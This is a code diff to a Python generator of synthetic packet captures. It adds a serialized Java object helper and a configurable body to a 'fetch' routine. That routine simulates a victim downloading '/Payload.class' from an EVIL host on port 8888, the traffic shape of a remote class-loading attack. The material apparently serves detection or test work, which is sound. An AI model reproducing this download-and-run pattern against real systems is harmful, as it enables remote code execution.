@@ -47,6 +47,11 @@ def java_class(name, words=()):
     return b"\xca\xfe\xba\xbe\0\0\0\x34" + struct.pack("!H", 5 + 2 * len(words)) + pool + struct.pack("!7H", 0x21, 2, 4, 0, 0, 0, 0)
 
 
+def java_object(name="java.util.Date"):
+    """An object without fields, serialized: aced0005, its class, the end of its data (specification, section 6.4)."""
+    return b"\xac\xed\0\5sr" + w.sized(2, name.encode()) + b"hj\x81\1\x4b\x59\x74\x19\2\0\0xp"
+
+
 class Tale(w.Capture):
     """Says who did what; time passes by wait() alone, and a millisecond with each packet."""
 
@@ -77,8 +82,8 @@ class Tale(w.Capture):
                                                 ("s", answer + done(2, 0x65))])
         self.wait(0.1)
 
-    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=()):
-        body = java_class("Payload", words)
+    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=(), body=None):
+        body = body or java_class("Payload", words)
         head = "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
         request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (path, agent, server, port)
         self.between(client, server).tcp(port, [("c", request.encode()), ("s", head.encode() + body)])
